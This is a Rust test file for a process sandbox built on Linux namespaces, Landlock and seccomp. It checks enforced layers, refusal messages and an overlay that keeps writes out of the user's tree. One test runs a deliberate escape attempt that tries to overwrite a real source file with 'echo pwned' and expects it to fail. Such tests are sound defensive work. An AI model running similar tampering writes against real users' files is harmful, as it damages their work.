    let json = serde_json::to_value(e).unwrap();
    assert_eq!(json["sandbox"], "enforced");
    assert_eq!(json["network"], false);
    let layers: Vec<&str> = e.layers.iter().map(String::as_str).collect();
    for layer in
        ["user_ns", "mount_ns", "pid_ns", "net_ns", "ipc_ns", "no_new_privs", "caps_dropped", "landlock", "seccomp"]
    {
        assert!(layers.contains(&layer), "{layer} in {layers:?}");
    }
    assert!(e.to_string().starts_with("enforced, Landlock ABI "), "{e}");
    let off = ws.policy().mode(Mode::Off).confine(ws.sh("true")).unwrap();
    assert_eq!(serde_json::to_value(off.enforced()).unwrap(), serde_json::json!({"sandbox": "off", "network": true}));
}

#[test]
fn this_machine_can_sandbox_and_the_probe_says_so() {
    let s = probe_now();
    assert!(s.can_enforce(), "{s}");
    assert!(s.landlock_abi.is_some_and(|abi| abi >= 1));
    assert!(s.to_string().starts_with("Landlock ABI "), "{s}");
}

/// The ratchet side run inside a user namespace of its own in which the
/// sysctl `limit` (`user.max_<kind>_namespaces`) is 0.
fn ratchet_side_with_no(limit: &str, spec: &Spec) -> serde_json::Value {
    ratchet_side_under(&["-U", "-r"], &format!("echo 0 > /proc/sys/user/{limit}"), spec)
}

/// The ratchet side run under `unshare <flags> sh -c '<setup> && exec ...'`.
fn ratchet_side_under(flags: &[&str], setup: &str, spec: &Spec) -> serde_json::Value {
    let mut side = Command::new("unshare");
    let script = format!("{setup} && exec \"$@\"");
    side.args(flags).args(["sh", "-c", &script, "sh"]);
    let inner = ratchet_side_process(spec);
    side.arg(inner.get_program()).args(inner.get_args());
    for (k, v) in inner.get_envs() {
        side.env(k, v.unwrap());
    }
    finish(side, &spec.out)
}

#[test]
fn where_user_namespaces_are_off_the_sandbox_refuses_and_mode_off_still_runs() {
    let ws = Ws::new();
    let spec = Spec { root: ws.root.clone(), script: "true".into(), out: ws.outside.join("r.json"), ..Spec::default() };
    let result = ratchet_side_with_no("max_user_namespaces", &spec);
    // Known before anything is started.
    assert_eq!(result["stage"], "confine", "{result}");
    assert_eq!(result["code"], "SANDBOX_UNAVAILABLE", "{result}");
    assert!(result["message"].as_str().unwrap().contains("unprivileged user namespaces"), "{result}");
    assert!(result["hint"].as_str().unwrap().contains("mode = \"off\""));
    assert_eq!(result["off_ended"], "Exited(0)");
}

#[test]
fn a_namespace_the_kernel_refuses_at_spawn_is_named_and_nothing_runs() {
    let ws = Ws::new();
    let spec =
        Spec { root: ws.root.clone(), script: "touch ran".into(), out: ws.outside.join("r.json"), ..Spec::default() };
    let result = ratchet_side_with_no("max_net_namespaces", &spec);
    // Only the spawn finds out: the child names the stage, nothing ran.
    assert_eq!(result["stage"], "spawn", "{result}");
    assert_eq!(result["code"], "SANDBOX_UNAVAILABLE", "{result}");
    assert!(result["message"].as_str().unwrap().contains("network namespaces"), "{result}");
    assert!(!ws.root.join("ran").exists());
    // A child with the network needs no network namespace.
    assert_eq!(result["net_ended"], "Exited(0)", "{result}");
}

#[test]
fn where_proc_is_partly_masked_the_hosts_proc_stays_and_the_record_says_so() {
    // As in some containers: a file of /proc covered by a mount makes the
    // kernel refuse a new /proc in a user namespace.
    let ws = Ws::new();
    let spec = Spec {
        root: ws.root.clone(),
        script: "ls /proc/timer_list".into(),
        out: ws.outside.join("r.json"),
        ..Spec::default()
    };
    let result = ratchet_side_under(&["-U", "-r", "-m"], "mount --bind /dev/null /proc/timer_list", &spec);
    assert_eq!(result["ended"], "Exited(0)", "{result}");
    let layers = result["enforced"]["layers"].as_array().unwrap();
    assert!(layers.contains(&"host_proc".into()) && !layers.contains(&"private_proc".into()), "{result}");
}

#[test]
fn the_refusal_names_each_missing_part() {
    let full = Support {
        os: "linux".into(),
        arch: "x86_64".into(),
        landlock_abi: Some(1),
        user_ns: true,
        mount_ns: true,
        pid_ns: true,
        net_ns: true,
        ipc_ns: true,
        private_proc: false,
        seccomp: true,
    };
    assert!(full.missing(false).is_empty());
    let no_landlock = Support { landlock_abi: None, ..full.clone() };
    assert!(no_landlock.missing(true)[0].starts_with("Landlock"));
    let no_net = Support { net_ns: false, ..full.clone() };
    assert_eq!(no_net.missing(false), ["network namespaces"]);
    assert!(no_net.missing(true).is_empty(), "a child with network needs no network namespace");
    let mac = Support { os: "macos".into(), ..Support::default() };
    assert_eq!(mac.missing(false), ["Linux (this is macos)"]);
    let e = SandboxError::Unavailable { missing: no_landlock.missing(false) };
    assert_eq!(crate::error::Coded::code(&e), "SANDBOX_UNAVAILABLE");
}

#[test]
fn the_workspace_policy_protects_ratchets_folders_and_state() {
    let ws = Ws::new();
    let w = crate::workspace::Workspace::at(&ws.root, "");
    let p = Policy::for_workspace(&w);
    for dir in [".git", "config", "intents", "golden", "logs"] {
        assert!(p.read_only.contains(&ws.root.join(dir)), "{dir}");
    }
    assert!(p.hidden.contains(&ws.root.join(".ratchet")));
    assert!(p.hidden.iter().any(|h| h.ends_with("ratchet") && h.parent().is_some_and(|s| s.ends_with("state"))));
    assert_eq!((p.mode, p.network), (Mode::On, false));
    // Under a home sub-folder, the home's folders.
    let w = crate::workspace::Workspace::at(&ws.root, "tools/ratchet");
    let p = Policy::for_workspace(&w);
    assert!(p.read_only.contains(&ws.root.join("tools/ratchet/logs")) && p.read_only.contains(&ws.root.join(".git")));
    assert!(p.hidden.contains(&ws.root.join("tools/ratchet/.ratchet")));
}

// ---------------------------------------------------------------- the ratchet side, in a process of its own

const HELPER: &str = "RATCHET_SANDBOX_TEST_SPEC";

#[derive(Default, serde::Serialize, serde::Deserialize)]
struct Spec {
    root: PathBuf,
    script: String,
    #[serde(default)]
    env: Vec<String>,
    out: PathBuf,
}

fn error_json(stage: &str, e: &SandboxError) -> serde_json::Value {
    serde_json::json!({
        "stage": stage,
        "code": crate::error::Coded::code(e),
        "message": e.to_string(),
        "hint": crate::error::Coded::hint(e),
    })
}

/// This test binary, to run [`ratchet_side`] with `spec`.
fn ratchet_side_process(spec: &Spec) -> Command {
    let mut cmd = Command::new(std::env::current_exe().unwrap());
    cmd.args(["--exact", "sandbox::tests::ratchet_side", "--ignored", "--test-threads=1", "-q"])
        .env(HELPER, serde_json::to_string(spec).unwrap())
        .stdout(Stdio::null())
        .stderr(Stdio::inherit());
    cmd
}

/// Runs `side` to its end; what it wrote.
fn finish(mut side: Command, out: &Path) -> serde_json::Value {
    let status = side.stdout(Stdio::null()).status().unwrap();
    assert!(status.success(), "the ratchet side failed: {status}");
    serde_json::from_slice(&std::fs::read(out).expect("the ratchet side wrote its result")).unwrap()
}

/// Not a test of its own: the ratchet side of a confined run, started by the
/// tests above in a process of its own (`RATCHET_SANDBOX_TEST_SPEC`).
#[test]
#[ignore = "started by other sandbox tests in a process of its own"]
fn ratchet_side() {
    let spec: Spec = serde_json::from_str(&std::env::var(HELPER).expect("started by another test")).unwrap();
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(&spec.script).current_dir(&spec.root);
    let policy = Policy::new(&spec.root).env(spec.env.clone());
    let run = |policy: &Policy, cmd: Command| -> serde_json::Value {
        let confined = match policy.confine(cmd) {
            Ok(c) => c,
            Err(e) => return error_json("confine", &e),
        };
        let mut confined = confined;
        let c = match run_captured(&mut confined, b"", Duration::from_secs(60), 1 << 20) {
            Ok(c) => c,
            Err(e) => return error_json("spawn", SandboxError::of(&e).expect("a sandbox error")),
        };
        let (ended, stdout) = (c.ended, text(&c.stdout));
        // Asked after the run: what the child actually got.
        let enforced = serde_json::to_value(confined.enforced()).unwrap();
        serde_json::json!({"ended": format!("{ended:?}"), "stdout": stdout, "enforced": enforced})
    };
    let mut result = run(&policy, cmd);
    if result.get("code").is_some() {
        let plain = || {
            let mut c = Command::new("true");
            c.current_dir(&spec.root);
            c
        };
        result["off_ended"] = run(&policy.clone().mode(Mode::Off), plain())["ended"].clone();
        result["net_ended"] = run(&policy.clone().network(true), plain())["ended"].clone();
    }
    std::fs::File::create(&spec.out).unwrap().write_all(result.to_string().as_bytes()).unwrap();
}

// ---------------------------------------------------------------- overlay

#[test]
fn an_overlay_child_writes_only_into_its_upper_directory() {
    let ws = Ws::new();
    let scratch = ws.outside.join("scratch");
    let (tree, upper, work) = (scratch.join("tree"), scratch.join("upper"), scratch.join("work"));
    for d in [&tree, &upper, &work] {
        std::fs::create_dir_all(d).unwrap();
    }
    let before = ws.read("src/lib.rs");
    let policy = Policy { hidden: vec![tree.join(".ratchet")], ..Policy::new(&tree) }.overlay(&ws.root, &upper, &work);
    let mut cmd = Command::new("sh");
    let script = format!(
        "cat src/lib.rs && echo more >> src/lib.rs && echo new > src/new.rs && rm intents/i.md \
         && git -c user.name=a -c user.email=a@b commit -qm x --allow-empty && ls -A .ratchet \
         && ! echo pwned > {root}/src/lib.rs",
        root = ws.root.display()
    );
    cmd.arg("-c").arg(script).current_dir(&tree).env("HOME", &ws.home);
    let c = run_captured(policy.confine(cmd).unwrap(), b"", Duration::from_secs(20), 1 << 20).unwrap();
    assert!(c.ended.success(), "{:?} {} {}", c.ended, text(&c.stdout), text(&c.stderr));
    assert_eq!(text(&c.stdout), "// code\n", "the lower tree is seen, its .ratchet hidden");
    // The user's tree is untouched; the writes are in upper.
    assert_eq!(ws.read("src/lib.rs"), before);
    assert!(ws.root.join("intents/i.md").exists());
    assert_eq!(std::fs::read_to_string(upper.join("src/lib.rs")).unwrap(), "// code\nmore\n");
    assert_eq!(std::fs::read_to_string(upper.join("src/new.rs")).unwrap(), "new\n");
    use std::os::unix::fs::FileTypeExt;
    assert!(std::fs::symlink_metadata(upper.join("intents/i.md")).unwrap().file_type().is_char_device());
    assert!(upper.join(".git").is_dir(), "the commit went to the overlay's .git");
    assert!(std::fs::read_dir(&tree).unwrap().next().is_none(), "the mount ended with the run");
}
